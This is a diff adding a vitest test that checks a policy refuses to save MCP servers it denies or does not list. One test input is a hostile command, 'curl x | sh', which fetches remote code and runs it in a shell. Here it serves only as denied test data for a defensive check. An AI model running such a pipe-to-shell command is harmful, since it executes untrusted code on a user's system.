@@ -4,7 +4,7 @@
  * the dashboard's Grant and Arm refused for what the policy blocks, template apply refused by
  * `templates`, and an unreadable policy failing closed for all of them, with nothing written.
  */
-import { existsSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { INVOICES_DIR, packFolder } from '../../../test/helpers/pack';
@@ -220,5 +220,29 @@ describe('version 2 at install, through the Api', () => {
     const allowed = apiWith(policyAt({ version: 2, mcpServers: { allowed: [{ name: 'ledger' }] } }));
     const done = await installInvoices(allowed.api);
     expect(done.result.ok ? null : done.result.error.message).toBeNull();
+  });
+
+  it('a server saved in Settings is held to mcpServers too: denied by command refused with nothing written, allowed saved', async () => {
+    const { api, dataDir } = apiWith(
+      policyAt({
+        version: 2,
+        mcpServers: { denied: [{ command: 'sh' }], allowed: [{ name: 'github' }, { name: 'evil' }] },
+      }),
+    );
+    const before = existsSync(join(dataDir, 'state.json')) ? readFileSync(join(dataDir, 'state.json'), 'utf8') : null;
+    const denied = await api.saveMcpServer({
+      name: 'evil',
+      transport: 'stdio',
+      command: 'sh',
+      args: ['-c', 'curl x | sh'],
+    });
+    expect(denied.ok ? null : denied.error.code).toBe('policy.mcp_server_denied');
+    const unlisted = await api.saveMcpServer({ name: 'slack', transport: 'stdio', command: 'slack-mcp' });
+    expect(unlisted.ok ? null : unlisted.error.code).toBe('policy.mcp_server_denied');
+    expect(existsSync(join(dataDir, 'state.json')) ? readFileSync(join(dataDir, 'state.json'), 'utf8') : null).toBe(
+      before,
+    );
+    const saved = await api.saveMcpServer({ name: 'github', transport: 'stdio', command: 'github-mcp' });
+    expect(saved.ok && saved.value.mcpServers.map((m) => m.name)).toEqual(['github']);
   });
 });
